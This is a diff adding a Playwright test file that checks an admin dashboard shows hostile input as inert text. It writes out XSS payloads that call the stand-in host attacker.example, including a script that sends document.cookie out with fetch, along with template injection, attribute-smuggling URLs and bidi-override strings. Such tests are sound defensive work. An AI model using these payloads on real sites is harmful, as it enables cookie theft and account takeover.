@@ -1,0 +1,161 @@
+import type { Locator, Page } from '@playwright/test';
+import { PAGE_CONTENT_LIMITS } from '../../../shared/model/pageContent.ts';
+import { PROJECT_LIMITS } from '../../../shared/model/project.ts';
+import { clearStore, readCollection, storeDocument, storeProject } from '../emulatorStore.ts';
+import { expect, test } from '../test.ts';
+import { openDashboard } from './signIn.ts';
+
+const ATTACKER = 'https://attacker.example';
+
+const ATTACKS = [
+  `<script>stolen=1;fetch('${ATTACKER}/a?'+document.cookie)</script>`,
+  `<img src="${ATTACKER}/b" onerror="stolen=1;alert(1)">`,
+  `"><svg/onload=alert(1)>`,
+  `</textarea></p></dialog><iframe src="javascript:alert(1)"></iframe>`,
+  `<a href="javascript:alert(1)">javascript:alert(1)</a>`,
+  `<style>@import "${ATTACKER}/c.css";*{display:none}</style><meta http-equiv="refresh" content="0;${ATTACKER}">`,
+  "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %> &lt;b&gt; &#0; %3Cscript%3E",
+  '\u202egnirts desrever\u202c \u2066isolated\u2069 \u200b\u200d\ufeff \u0007\u001b[31m',
+  'e\u0301 \u{1f469}\u200d\u{1f469}\u200d\u{1f467} \u{1f3f4}\u{e0067}\u{e007f} مشروع שלום 中文 \u{10ffff}',
+].join('\n');
+
+/** The attacks over and over, of exactly that length, and well formed at the cut. */
+function hostile(length: number): string {
+  const text = ATTACKS.repeat(Math.ceil(length / ATTACKS.length)).slice(0, length - 1);
+  return `${text.replace(/[\ud800-\udbff]$/, 'x')}!`.padEnd(length, '!');
+}
+
+const TITLE = `<img src=x onerror=alert(1)>"'\u202e</title><script>alert(1)</script>`;
+const DESCRIPTION = hostile(PROJECT_LIMITS.description);
+const TECHNOLOGIES = ['<script>alert(1)</script>', 'javascript:alert(1)', '\u202eoG', '"><b>'];
+const LINKS = {
+  imageUrl: `javascript:fetch('${ATTACKER}/d')`,
+  demoUrl: `${ATTACKER}/" onclick="alert(1)`,
+  githubUrl: 'data:text/html,<script>alert(1)</script>',
+};
+const CONTENT = hostile(PAGE_CONTENT_LIMITS.content);
+const ID = 'abcdefghij0123456789';
+
+test.beforeEach(clearStore);
+
+/** Opens the dashboard and watches for anything that text must never do; `logged` watches for policy violations. */
+async function openWatched(page: Page, adminPath: string): Promise<() => Promise<void>> {
+  const effects: string[] = [];
+  page.on('dialog', (dialog) => {
+    effects.push(`dialog: ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  page.on('request', (request) => {
+    if (request.url().startsWith(ATTACKER)) effects.push(`request: ${request.url()}`);
+  });
+  page.on('popup', (popup) => effects.push(`popup: ${popup.url()}`));
+  await openDashboard(page, adminPath);
+  return async () => {
+    expect(effects).toEqual([]);
+    expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false);
+    const links = await page
+      .locator('a')
+      .evaluateAll((all) => all.map((a) => a.getAttribute('href')));
+    expect(links.filter((href) => /^(javascript|data):|attacker/i.test(href ?? ''))).toEqual([]);
+  };
+}
+
+async function fieldsOf(collection: string): Promise<Record<string, unknown>> {
+  const [stored] = await readCollection(collection);
+  return stored?.fields ?? {};
+}
+
+async function addTechnologies(dialog: Locator): Promise<void> {
+  const field = dialog.getByRole('textbox', { name: 'Technologies' });
+  for (const technology of TECHNOLOGIES) {
+    await field.fill(technology);
+    await field.press('Enter');
+  }
+}
+
+test('a project written past the form is shown, edited and saved as text', async ({
+  page,
+  adminPath,
+}) => {
+  const form = { title: TITLE, description: DESCRIPTION, technologies: TECHNOLOGIES };
+  await storeProject(ID, { ...form, ...LINKS });
+  const expectNoEffect = await openWatched(page, adminPath);
+  await page.getByRole('tab', { name: 'Projects' }).click();
+  const card = page.getByRole('listitem').filter({ has: page.getByRole('heading', { level: 3 }) });
+  await expect(card.getByRole('heading')).toHaveText(TITLE);
+  await expect(card.getByText(TECHNOLOGIES[0] ?? '', { exact: true })).toBeVisible();
+  expect(await card.innerText()).toContain('<script>stolen=1');
+  await expectNoEffect();
+
+  await card.getByRole('button', { name: 'Edit' }).click();
+  const dialog = page.getByRole('dialog', { name: 'Edit Project' });
+  await expect(dialog.getByLabel('Project Title')).toHaveValue(TITLE);
+  await expect(dialog.getByLabel('Description')).toHaveValue(DESCRIPTION);
+  await expect(dialog.getByLabel('Image URL')).toHaveValue(LINKS.imageUrl);
+  await expectNoEffect();
+
+  await dialog.getByRole('button', { name: 'Update Project' }).click();
+  await expect(dialog.getByText('Enter a full link that starts with https://')).toHaveCount(3);
+  for (const name of ['Image URL', 'Demo URL (Optional)', 'GitHub URL (Optional)']) {
+    await dialog.getByLabel(name).fill('');
+  }
+  await dialog.getByRole('button', { name: 'Update Project' }).click();
+  await expect(dialog).toBeHidden();
+  await expectNoEffect();
+  const stored = await fieldsOf('projects');
+  expect(stored['title']).toEqual({ stringValue: TITLE });
+  expect(stored['description']).toEqual({ stringValue: DESCRIPTION });
+  expect(stored['imageUrl']).toEqual({ stringValue: '' });
+});
+
+test('a project typed in the form is stored and shown exactly, as text', async ({
+  page,
+  adminPath,
+}) => {
+  const expectNoEffect = await openWatched(page, adminPath);
+  await page.getByRole('button', { name: 'Add New Project' }).click();
+  const dialog = page.getByRole('dialog', { name: 'Add New Project' });
+  await dialog.getByLabel('Project Title').fill(TITLE);
+  await dialog.getByLabel('Description').fill(DESCRIPTION);
+  await addTechnologies(dialog);
+  await expectNoEffect();
+  await dialog.getByRole('button', { name: 'Create Project' }).click();
+  await expect(dialog).toBeHidden();
+  await page.getByRole('tab', { name: 'Projects' }).click();
+  await expect(page.getByRole('heading', { level: 3 })).toHaveText(TITLE);
+  await expectNoEffect();
+  const stored = await fieldsOf('projects');
+  expect(stored['title']).toEqual({ stringValue: TITLE });
+  expect(stored['description']).toEqual({ stringValue: DESCRIPTION });
+  expect(stored['technologies']).toEqual({
+    arrayValue: { values: TECHNOLOGIES.map((stringValue) => ({ stringValue })) },
+  });
+});
+
+test('a section written past the form is shown, edited and saved as text', async ({
+  page,
+  adminPath,
+}) => {
+  const section = { id: 'hero-title', title: TITLE, content: CONTENT, lastUpdated: new Date() };
+  await storeDocument('pageContent/hero-title', section);
+  const expectNoEffect = await openWatched(page, adminPath);
+  await page.getByRole('tab', { name: 'Content', exact: true }).click();
+  const card = page
+    .getByRole('listitem')
+    .filter({ has: page.getByRole('heading', { name: TITLE, exact: true }) });
+  expect(await card.innerText()).toContain('<script>stolen=1');
+  await expectNoEffect();
+
+  await card.getByRole('button', { name: 'Edit Content' }).click();
+  const content = page.getByRole('textbox', { name: 'Content', exact: true });
+  await expect(page.getByLabel('Section Title')).toHaveValue(TITLE);
+  await expect(content).toHaveValue(CONTENT);
+  const changed = `?${CONTENT.slice(1)}`;
+  await content.fill(changed);
+  await page.getByRole('button', { name: 'Save Content' }).click();
+  await expect(page.getByText('No Content Selected')).toBeVisible();
+  await expectNoEffect();
+  const stored = await fieldsOf('pageContent');
+  expect(stored['title']).toEqual({ stringValue: TITLE });
+  expect(stored['content']).toEqual({ stringValue: changed });
+});
